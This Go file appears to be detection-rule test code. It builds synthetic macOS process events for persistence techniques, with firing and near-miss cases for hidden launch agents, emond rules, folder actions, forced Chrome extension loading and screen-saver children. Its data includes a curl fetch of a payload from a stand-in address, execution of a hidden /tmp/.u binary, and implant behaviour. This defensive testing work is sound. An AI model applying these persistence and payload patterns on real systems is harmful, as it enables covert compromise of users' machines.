package agent

import (
	"slices"

	"hooksnare/collector/eslogger/synthetic"
)

// launchStories are about what others of the system's programs are made to start.
func launchStories() []story {
	const (
		hidden  = synthetic.Home + "/.config/.updater"
		emond   = "/sbin/emond" // gone with macOS 13, but for its name
		scripts = "/System/Library/Frameworks/Foundation.framework/Versions/C/XPCServices/com.apple.foundation.UserScriptService.xpc/Contents/MacOS/com.apple.foundation.UserScriptService"
	)
	folderAction := func(d *desk) *synthetic.Proc { return d.agent("com.apple.foundation.UserScriptService", scripts) }
	return slices.Concat(
		about("persistence_defense_evasion_hidden_launch_agent_deamon_logonitem_process",
			fires("an agent", func(d *desk) { d.agent("com.updates", hidden) }, hidden+" < launchd"),
			fires("a daemon", func(d *desk) { d.daemon("com.updates", "/Library/.u", "-d") }, "/Library/.u < launchd"),
			near("in a hidden folder", func(d *desk) { d.agent("com.updates", synthetic.Home+"/.config/updater") }),
			near("started by hand", func(d *desk) { d.types(hidden) }),
		),
		about("persistence_emond_rules_process_execution",
			fires("a rule's command", func(d *desk) { d.sh(d.daemon("com.apple.emond", emond), "/tmp/.u; true", []string{"/private/tmp/.u"}) },
				"/bin/sh < emond", "/bin/bash < emond"),
			fires("a rule's download", func(d *desk) { d.run(d.daemon("com.apple.emond", emond), "curl", "-s", "203.0.113.9/u") }, "/usr/bin/curl < emond"),
			near("a rule's message", func(d *desk) { d.run(d.daemon("com.apple.emond", emond), "logger", "a login") }),
			near("another daemon", func(d *desk) {
				d.sh(d.daemon("com.apple.syslogd", "/usr/sbin/syslogd"), "/tmp/.u; true", []string{"/private/tmp/.u"})
			}),
		),
		about("persistence_folder_action_scripts_runtime",
			fires("a script from elsewhere", func(d *desk) { d.run(folderAction(d), "osascript", "-sd", "-E", "-P", "/Users/Shared/act.scpt") },
				"/usr/bin/osascript < com.apple.foundation.UserScriptService"),
			fires("a shell's line", func(d *desk) { d.run(folderAction(d), "zsh", "-c", "/Users/Shared/act") },
				"/bin/zsh < com.apple.foundation.UserScriptService"),
			near("a script of the user's folder", func(d *desk) {
				d.run(folderAction(d), "osascript", "-sd", "-E", "-P", synthetic.Home+"/Library/Scripts/Folder Action Scripts/sort.scpt")
			}),
			near("a shell's script", func(d *desk) { d.run(folderAction(d), "zsh", "/Users/Shared/act") }),
			near("started by hand", func(d *desk) { d.types("osascript", "/Users/Shared/act.scpt") }),
		),
	)
}

// startedStories are about what programs of the user's session are made to start.
func startedStories() []story {
	const (
		driver      = "/opt/homebrew/Caskroom/chromedriver/133.0.6943.141/chromedriver-mac-arm64/chromedriver"
		cypress     = synthetic.Home + "/Library/Caches/Cypress/14.0.3/Cypress.app/Contents/MacOS/Cypress"
		extension   = "--load-extension=" + synthetic.Home + "/.config/.ext"
		saver       = "/System/Library/CoreServices/ScreenSaverEngine.app/Contents/MacOS/ScreenSaverEngine"
		saverModule = "/System/Library/Frameworks/ScreenSaver.framework/PlugIns/legacyScreenSaver.appex/Contents/MacOS/legacyScreenSaver"
	)
	return slices.Concat(
		about("persistence_manual_chromium_extension_loading",
			fires("a browser that launchd started for an implant", func(d *desk) {
				d.run(d.implant(), "open", "-na", "Google Chrome", "--args", extension)
				d.agent("application.com.google.Chrome.5251.5257", chrome, extension)
			}, chrome+" < launchd"),
			fires("by an implant itself", func(d *desk) { d.run(d.implant(), chrome, "--no-first-run", extension) }, chrome+" < updated"),
			near("without one", func(d *desk) { d.run(d.implant(), chrome, "--no-first-run") }),
			near("a test driver", func(d *desk) { d.run(d.start(d.shell(), driver, "--port=9515"), chrome, extension) }),
			near("a test runner's own", func(d *desk) {
				d.run(d.start(d.shell(), cypress), chrome, "--load-extension="+synthetic.Home+"/Library/Application Support/Cypress/cy/production/browsers/chrome")
			}),
		),
		about("persistence_screensaver_engine_unexpected_child_process",
			fires("a saver's payload, from its fork", func(d *desk) {
				d.sh(d.agent("com.apple.ScreenSaver.Engine", saver), "/tmp/.u; true", []string{"/private/tmp/.u"})
			}, saver+" < ScreenSaverEngine", "/bin/sh < ScreenSaverEngine", "/bin/bash < ScreenSaverEngine"),
			near("a saver", func(d *desk) { d.Exit(d.agent("com.apple.ScreenSaver.Engine", saver), 0) }),
			near("the process that runs its code", func(d *desk) {
				d.sh(d.agent("com.apple.ScreenSaver.Engine.legacyScreenSaver", saverModule), "/tmp/.u; true", []string{"/private/tmp/.u"})
			}),
		),
	)
}
